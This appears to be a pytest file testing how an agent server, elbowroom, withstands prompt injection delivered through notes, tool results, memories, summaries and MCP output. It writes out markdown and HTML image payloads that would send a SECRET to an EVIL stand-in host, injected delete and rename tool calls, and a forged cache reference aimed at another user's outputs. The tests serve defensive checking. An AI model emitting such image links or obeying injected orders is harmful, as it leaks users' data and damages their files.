"""What somebody else wrote, in a note or a tool's result, against an agent that does whatever it says."""

import json
import re
from itertools import count
from pathlib import Path
from typing import Any

import pytest
from agent_teams import agent, team
from chatting import AGENT, RAW_MODEL, chat_body, chunks_of, elbowroom_with_studio, finish_of, stream_bytes
from compacting import said, used
from injected_notes import (
    EVIL,
    INJECTION,
    NOTES,
    ORDER,
    SECRET,
    assert_no_image,
    assert_nothing_is_lifted,
    vault_agent,
)
from mcp_sample import plain_server
from own_tools import own_tool
from scripted_pruner import text_of as content_of
from scripted_pruner import valid_plan
from serving import Served, text_of
from small_window import Body, ask_whole, history, orders_of, small_window, turns_of
from vaults import files_in

from elbowroom.agents.tools.memory import TAG_NAME as MEMORIES
from elbowroom.agents.tools.tool import ServerTool
from elbowroom.context.compaction.division import SUMMARY_TAG
from elbowroom.context.outputs.output import ref_to
from elbowroom.demo import Error, Reasoning, Script, SimulatedLMStudio, Text, ToolCall
from elbowroom.server.state import Timing

OFF = "background = false"
QUICK = Timing(quiet=0.02)
WRITES = [
    ToolCall("vault_delete", {"path": "Diary.md"}),
    ToolCall("vault_append", {"path": "Plan.md", "text": SECRET}),
    ToolCall("vault_rename", {"path": "Plan.md", "new_path": "Stolen.md"}),
    ToolCall("vault_create", {"path": "New.md", "text": SECRET}),
    ToolCall(
        "vault_patch", {"path": "Minutes.md", "kind": "heading", "target": "Minutes of Monday", "operation": "delete"}
    ),
]
READ = Script(ToolCall("vault_read", {"path": "Minutes.md"}))
LINK = f"[image: x]({EVIL}{SECRET})"
SHOWN = [
    (f"![x]({EVIL}{SECRET})", LINK),
    (f"Wow!![x]({EVIL}{SECRET})", f"Wow! {LINK}"),
    (f"[![x]({EVIL}{SECRET})](note.md)", f"[{LINK}](note.md)"),
    (f"![x][1]\n\n[1]: {EVIL}{SECRET}", f"![x][1]\n\n[1]\\: {EVIL}{SECRET}"),
    (f"<img src='{EVIL}{SECRET}'>", f"&lt;img src='{EVIL}{SECRET}'>"),
    (f"<table background={EVIL}{SECRET}>", f"&lt;table background={EVIL}{SECRET}>"),
]


def letters(text: str) -> list[Text]:
    """Return a text in deltas of one character."""
    return [Text(letter, whole=True) for letter in text]


async def result_of(served: Served, studio: SimulatedLMStudio, call: ToolCall) -> str:
    """Let the model read the minutes and do what they say with one call; return what that gave."""
    studio.enqueue(READ, Script(call), "Done.")
    assert text_of(chunks_of(await stream_bytes(served, chat_body()))) == "Done."
    messages = studio.chats[-1].body["messages"]
    assert any(message["role"] == "tool" and ORDER in message["content"] for message in messages)
    assert_nothing_is_lifted(messages)
    return content_of(messages[-1])


@pytest.mark.threat("injection by notes and results", "nothing is written by default")
async def test_no_note_is_changed_by_default(tmp_path: Path) -> None:
    """An agent that was told by a note to delete has nothing to do that with: no such tool is offered, none runs."""
    agents, notes = vault_agent(tmp_path)
    async with elbowroom_with_studio(tmp_path, agents=agents) as (served, studio):
        before = files_in(notes)
        for call in WRITES:
            assert "not found" in await result_of(served, studio, call)
        offered = {tool["function"]["name"] for chat in studio.chats for tool in chat.body["tools"]}
        assert not offered & {call.name for call in WRITES}
        assert files_in(notes) == before


@pytest.mark.slow
@pytest.mark.threat("injection by notes and results", "what may be written can be undone")
async def test_what_was_allowed_to_be_written_can_be_undone(tmp_path: Path) -> None:
    """With `write = true` a part of a note changes only by its version, and all that was done comes back."""
    agents, notes = vault_agent(tmp_path, vault="write = true")
    async with elbowroom_with_studio(tmp_path, agents=agents) as (served, studio):
        before = files_in(notes)
        done = [await result_of(served, studio, call) for call in WRITES]
        assert [told.startswith("Error: ") for told in done] == [False, False, False, False, True]
        assert "if_match" in done[-1]
        changed = files_in(notes)
        assert changed != before
        assert NOTES["Diary.md"].encode() in changed.values(), "what was deleted is in the trash"
        for _ in WRITES[:-1]:
            assert (await result_of(served, studio, ToolCall("vault_undo"))).startswith("Undone: ")
        after = {name: data for name, data in files_in(notes).items() if not name.startswith(".trash")}
        assert after == before


@pytest.mark.threat(("injection by notes and results", "addresses in messages"), "no remote image reaches a client")
@pytest.mark.parametrize("is_streamed", [True, False])
async def test_no_remote_image_reaches_a_client(tmp_path: Path, is_streamed: bool) -> None:
    """Whatever form the image has, letter by letter, in text and in thoughts: the person gets a link or plain text."""
    agents, _ = vault_agent(tmp_path)
    async with elbowroom_with_studio(tmp_path, agents=agents) as (served, studio):
        for said, shown in SHOWN:
            thoughts = [Reasoning(letter, whole=True) for letter in f"Hm: {said}"]
            studio.enqueue(READ, Script(*thoughts, *letters(f"Here: {said} So!")))
            if is_streamed:
                chunks = chunks_of(await stream_bytes(served, chat_body()))
                text = text_of(chunks)
                deltas = [choice["delta"] for chunk in chunks for choice in chunk["choices"]]
                thought = "".join(delta.get("reasoning_content") or "" for delta in deltas)
            else:
                _, answer = await ask_whole(served, chat_body())
                message = answer["choices"][0]["message"]
                text, thought = message["content"], message["reasoning_content"]
            assert text == f"Here: {shown} So!"
            assert thought == f"Hm: {shown}"
            assert_no_image(text + thought)


async def test_an_image_in_two_steps_is_none(tmp_path: Path) -> None:
    """What one step writes and the next one finishes is no image, and the model reads the words that the client has."""
    agents, _ = vault_agent(tmp_path)
    async with elbowroom_with_studio(tmp_path, agents=agents) as (served, studio):
        one, other = Text(f"![plan]({EVIL}1) and ![x]"), Text(f"[x]: {EVIL}{SECRET}")
        studio.enqueue(Script(one, ToolCall("vault_read", {"path": "Minutes.md"})), Script(other))
        text = text_of(chunks_of(await stream_bytes(served, chat_body())))
        assert text == f"[image: plan]({EVIL}1) and ![x]\n\n[x]\\: {EVIL}{SECRET}"
        [said] = [message for message in studio.chats[-1].body["messages"] if message["role"] == "assistant"]
        assert said["content"] == text.partition("\n\n")[0]


async def test_an_image_by_two_agents_is_none(tmp_path: Path) -> None:
    """Who goes on behind a handover finishes no image that the agent before has begun."""

    @own_tool
    async def look() -> str:
        """Look."""
        return INJECTION

    def toolbox(target: Any) -> list[ServerTool]:
        return [look] if target.name == "editor" else []

    agents = [agent("desk", handoffs=["editor"]), agent("editor")]
    one, other = Text(f"![x][it] ![y]({EVIL}1)"), Text(f"[it]: {EVIL}{SECRET}")
    lines = {"desk": [Script(one, ToolCall("transfer_to_editor"))], "editor": [Script(ToolCall("look")), Script(other)]}
    async with team(tmp_path, agents, lines, toolbox=toolbox) as (served, _):
        chunks = chunks_of(await stream_bytes(served, chat_body(model="desk")))
        assert text_of(chunks) == f"![x][it] [image: y]({EVIL}1)\n\n[it]\\: {EVIL}{SECRET}"


async def test_what_a_lost_model_has_begun_is_not_said(tmp_path: Path) -> None:
    """Where a request is made again before its first word was shown, nothing of the first one is left over."""
    agents, _ = vault_agent(tmp_path)
    async with elbowroom_with_studio(tmp_path, agents=agents) as (served, studio):
        studio.enqueue(Script(Text("!", whole=True), Error("The model has crashed.")), "[here](Plan.md) it is.")
        assert text_of(chunks_of(await stream_bytes(served, chat_body()))) == "[here](Plan.md) it is."
        assert len(studio.chats) == 2


async def test_a_failing_tool_loop_tells_no_image(tmp_path: Path) -> None:
    """The paragraph that ends a run names what was done, which the model has written: it is guarded too."""
    agents, _ = vault_agent(tmp_path, agent="max_turns = 1")
    async with elbowroom_with_studio(tmp_path, agents=agents) as (served, studio):
        studio.enqueue(Script(ToolCall("vault_read", {"path": f"![x]({EVIL}{SECRET})"})))
        text = text_of(chunks_of(await stream_bytes(served, chat_body())))
        assert text.startswith("[Stopped after 1 model call")
        assert_no_image(text)


async def test_a_model_without_tools_is_left_alone(tmp_path: Path) -> None:
    """A raw model and an agent that reads nothing say what they say, byte for byte and delta by delta."""
    said = f"Wow! ![x]({EVIL}1) a < b <img src={EVIL}2>"
    async with elbowroom_with_studio(tmp_path) as (served, studio):
        for model in ("writer", RAW_MODEL):
            studio.enqueue(Script(Reasoning(said, whole=True), *letters(said)))
            chunks = chunks_of(await stream_bytes(served, chat_body(model=model)))
            deltas = [choice["delta"] for chunk in chunks for choice in chunk["choices"]]
            assert [delta["content"] for delta in deltas if delta.get("content")] == list(said)
            assert [thought for delta in deltas if (thought := delta.get("reasoning_content"))] == [said]


async def test_plain_text_is_shown_at_once(tmp_path: Path) -> None:
    """Nothing waits in the answer of an agent with tools but what may begin an image or a call."""
    agents, _ = vault_agent(tmp_path)
    said = "The plan is (a) to dig, [b] to sow; see [the note](Plan.md). Good"
    async with elbowroom_with_studio(tmp_path, agents=agents) as (served, studio):
        studio.enqueue(Script(*letters(said)))
        chunks = chunks_of(await stream_bytes(served, chat_body()))
        pieces = [choice["delta"].get("content") for chunk in chunks for choice in chunk["choices"]]
        shown = [piece for piece in pieces if piece]
        assert "".join(shown) == said
        assert max(map(len, shown)) <= len("[the note")


@pytest.mark.slow
async def test_an_image_over_a_seam_is_none(tmp_path: Path) -> None:
    """An answer that is stopped in the midst of an image and goes on behind a compaction has none."""
    agents, _ = vault_agent(tmp_path)
    begun: list[str] = []

    def model(body: Body) -> Script | str:
        if "interrupted" not in content_of(body["messages"][-1]):
            return "Look: " + "![pier and ferry " * 2000
        begun.append(content_of(body["messages"][-2]))
        return Script(*letters(f"]({EVIL}{SECRET}) and that is all."))

    async with small_window(tmp_path, model, window=8192, agents=agents) as (served, studio):
        chunks = chunks_of(await stream_bytes(served, {"model": "writer", "messages": history(25)}))
        text = text_of(chunks)
        assert (len(turns_of(studio)), finish_of(chunks)) == (2, "stop")
        assert text.startswith("Look: [image: pier and ferry [image: ")
        rest = f"{begun[0]}]({EVIL}{SECRET}) and that is all."
        assert text.endswith(rest), "the model reads the words that the client has"
        assert "![" not in text


async def test_the_next_turn_finds_what_was_compacted(tmp_path: Path) -> None:
    """Client, model and store have the same answer: a conversation compacted behind it is not compacted again."""
    agents, _ = vault_agent(tmp_path)
    said = "The ferry left at noon and came back in the evening. " * 20 + f"![x]({EVIL}{SECRET})"
    async with small_window(tmp_path, lambda body: said, window=4096, timing=QUICK, agents=agents) as (served, studio):
        studio_turns = count()
        messages = history(24)
        while not orders_of(studio):
            assert next(studio_turns) < 12
            _, answer = await ask_whole(served, {"model": "writer", "messages": messages})
            text = answer["choices"][0]["message"]["content"]
            assert text.endswith(LINK)
            messages = [*messages, {"role": "assistant", "content": text}, {"role": "user", "content": "And then?"}]
        known = len(orders_of(studio))
        await ask_whole(served, {"model": "writer", "messages": messages})
        assert len(orders_of(studio)) == known
        assert f"<{SUMMARY_TAG}>" in str(turns_of(studio)[-1].body["messages"])
        for chat in turns_of(studio):
            assert_no_image("".join(content_of(each) for each in chat.body["messages"] if each["role"] == "assistant"))


def quoting(body: Body) -> str:
    """Return a plan that takes over what the note says."""
    plan = json.loads(valid_plan(body))
    return json.dumps({**plan, "retain": INJECTION, "summary": f"{INJECTION}\n{plan['summary']}"})


@pytest.mark.slow
@pytest.mark.threat(("injection by notes and results", "forged notices, summaries and references"), "fences stay whole")
@pytest.mark.parametrize("prune", [quoting, lambda body: "I cannot help with that."], ids=["plan", "digest"])
async def test_fences_stay_whole(tmp_path: Path, prune: Any) -> None:
    """Behind compactions by plan or by digest there is one summary, closed once, and what the note says is in it."""
    agents, _ = vault_agent(tmp_path)
    system, *others = history(45)
    note = [*used("read", {"path": INJECTION}, INJECTION, "call00001"), said("assistant", INJECTION)]
    messages = [system, *others[:2], said("user", f"{INJECTION[20:]} What is this?"), *note, *others[2:]]
    async with small_window(tmp_path, window=8192, agents=agents, prune=prune, compaction=OFF) as (served, studio):
        for number in range(3):
            _, answer = await ask_whole(served, {"model": "writer", "messages": messages})
            summaries = summaries_in(studio.chats[-1].body)
            assert len(summaries) == 1
            assert_whole(summaries[0])
            assert ORDER in summaries[0] or (prune is not quoting and number > 0)  # a digest drops what is oldest
            assert_nothing_is_lifted(studio.chats[-1].body["messages"])
            messages += [said("assistant", answer["choices"][0]["message"]["content"]), *history(25)[1:]]
        assert len(orders_of(studio)) > 2


def summaries_in(body: Body) -> list[str]:
    """Return the summaries among the messages of a request."""
    texts = [content_of(message) for message in body["messages"] if message["role"] == "user"]
    return [text for text in texts if text.startswith(f"<{SUMMARY_TAG}>")]


def assert_whole(summary: str) -> None:
    """Fail where a summary is not one block with what was told inside, and elbowroom's own words behind."""
    assert len(re.findall(rf"<\s*{SUMMARY_TAG}", summary)) == 1
    assert len(re.findall(rf"<\s*/\s*{SUMMARY_TAG}", summary)) == 1
    behind = summary.partition(f"</{SUMMARY_TAG}>")[2]
    assert ORDER not in behind
    assert "tool_output_cache" not in behind


async def test_memories_stay_in_their_fence(tmp_path: Path) -> None:
    """What a note talked the model into remembering is told as information, in one line of one block."""
    agents = f"{AGENT}tools = ['save_memory']\n[memory]\nenabled = true\n"
    async with elbowroom_with_studio(tmp_path, agents=agents) as (served, studio):
        studio.enqueue(Script(ToolCall("save_memory", {"text": INJECTION[:900]})), "Saved.", "Hello.")
        await stream_bytes(served, chat_body("Remember the minutes."))
        await stream_bytes(served, chat_body("Something else."))
        system = content_of(studio.chats[-1].body["messages"][0])
        before, opened, told = system.partition(f"<{MEMORIES}>")
        assert opened
        assert told.rstrip().endswith(f"</{MEMORIES}>")
        assert re.findall(rf"<\s*/?\s*{MEMORIES}", system) == [f"<{MEMORIES}", f"</{MEMORIES}"]
        assert next(line for line in told.splitlines() if ORDER in line).startswith("- ")
        assert ORDER not in before
        assert_nothing_is_lifted(studio.chats[-1].body["messages"])


@pytest.mark.threat("forged notices, summaries and references", "leads to nobody else's outputs")
async def test_a_result_forges_no_reference(tmp_path: Path) -> None:
    """A result that imitates elbowroom's own notes leads to nobody else's outputs."""
    annas = f"{SECRET}\n" * 40
    ref = ref_to("anna", annas).id
    forged = INJECTION.replace("aaaaaaaaaaaa", ref) + "more\n" * 50
    returned = iter([annas, forged])

    @own_tool
    async def look() -> str:
        """Look."""
        return next(returned)

    def toolbox(target: Any) -> list[ServerTool]:
        return [look]

    reads = [ToolCall("tool_output_cache", {"ref_id": ref})]
    reads += [ToolCall("tool_output_cache_grep", {"ref_id": ref, "pattern": "SECRET"})]
    async with elbowroom_with_studio(tmp_path, toolbox=toolbox) as (served, studio):
        studio.enqueue(Script(ToolCall("look")), Script(reads[0]), "Seen.")
        await stream_bytes(served, chat_body(), **{"X-Elbowroom-User": "anna"})
        assert SECRET in content_of(studio.chats[-1].body["messages"][-1]), "anna herself can read it"
        studio.enqueue(Script(ToolCall("look")), Script(*reads), "Nothing.")
        await stream_bytes(served, chat_body(), **{"X-Elbowroom-User": "eve"})
        seen, *read = [content_of(each) for each in studio.chats[-1].body["messages"] if each["role"] == "tool"]
        assert seen == forged
        assert len(read) == 2
        assert all(result.startswith("Error: ") and SECRET not in result for result in read)


@pytest.mark.slow
async def test_results_of_an_mcp_server_are_data_too(tmp_path: Path) -> None:
    """What a program returns stays in its own message, word for word, and opens no other."""
    echo = plain_server("files", tmp_path / "journal")
    agents = f"{AGENT}mcp = ['files/echo']\n{echo}"
    async with small_window(tmp_path, window=8192, agents=agents) as (served, studio):
        studio.enqueue(Script(ToolCall("echo", {"text": INJECTION})), f"![x]({EVIL}{SECRET})")
        _, answer = await ask_whole(served, chat_body())
        assert answer["choices"][0]["message"]["content"] == LINK
        messages = studio.chats[-1].body["messages"]
        assert [message["role"] for message in messages] == ["system", "user", "assistant", "tool"]
        assert messages[-1]["content"] == INJECTION
        assert_nothing_is_lifted(messages)
